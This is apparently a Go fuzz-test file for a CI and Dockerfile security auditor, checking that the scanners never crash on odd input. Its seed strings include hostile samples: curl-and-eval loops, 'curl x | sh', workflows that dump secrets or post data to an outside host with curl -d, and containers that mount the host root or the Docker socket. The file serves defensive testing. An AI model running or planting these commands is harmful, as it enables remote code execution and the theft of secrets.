package audit

import (
	"strings"
	"testing"
)

// FuzzDockerShell: no Dockerfile stops the audit, and the shell it is
// turned into keeps every line where it was (findings name the
// Dockerfile's lines).
func FuzzDockerShell(f *testing.F) {
	for _, s := range []string{
		"FROM debian\nRUN apt-get update \\\n # note\n && apt-get install -y curl\nCMD [\"sh\", \"-c\", \"echo hi\"]\n",
		"RUN <<EOF\nwhile :; do c=$(curl -s https://x); eval \"$c\"; sleep 9; done\nEOF\n",
		"RUN cat > /usr/local/bin/a <<'EOF'\n#!/bin/sh\ncurl x | sh\nEOF\n",
		"RUN printf '%s\\n' '#!/bin/sh' 'j=$(curl -s x)' 'sh -c \"$j\"' > /usr/local/bin/a\n",
		"ENV A=1 \\\n  B=2\nARG V=\"x\"\nENTRYPOINT [\"/bin/a\"]\nRUN --mount=type=cache,target=/c make\n",
		"RUN <<\nRUN [\nRUN \\",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, content string) {
		out := dockerShell(content)
		if got, want := strings.Count(out, "\n"), strings.Count(content, "\n"); got != want {
			t.Fatalf("dockerShell has %d lines, the Dockerfile %d:\n%q\n%q", got+1, want+1, content, out)
		}
		sc := scanCtx(content)
		scanShell(sc, "Dockerfile", out, 1, inScript)
	})
}

// FuzzCIConfig: no settings text (workflow, GitLab CI, devcontainer.json,
// Compose) stops the audit.
func FuzzCIConfig(f *testing.F) {
	for _, s := range []string{
		"on:\n  pull_request_target:\njobs:\n  t:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.head_ref }}\n      - run: |\n          echo ${{ toJSON(secrets) }} | base64\n",
		"stages: [a]\nj:\n  stage: a\n  script:\n    - env | base64\n",
		"// c\n{\"build\": {\"dockerfile\": \"Dockerfile\"}, \"runArgs\": [\"--network\", \"host\"], \"mounts\": [{\"source\": \"/\"}], \"postCreateCommand\": {\"a\": [\"sh\", \"-c\", \"x\"]},}",
		"services:\n  a:\n    volumes: [\"~/:/h\", {source: /var/run/docker.sock}]\n    pid: host\n    command: [\"sh\", \"-c\", \"$$x\"]\n",
		"jobs: [\nsteps:",
		"on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: a\n      __STEP__\n      {{ more }}\n      - run: env | base64\n",
		"inputs:\n  c: {}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        C: ${{ inputs.c }}\n      run: curl -d \"$C\" https://x.example\n",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		sc := scanCtx(text)
		scanCIConfig(sc, ".devcontainer/devcontainer.json", text, 1, inScript)
		scanCIConfig(sc, ".github/workflows/ci.yml", text, 1, inCode)
		scanCIConfig(sc, "templates/actions/a/action.yml", text, 1, inScript)
	})
}
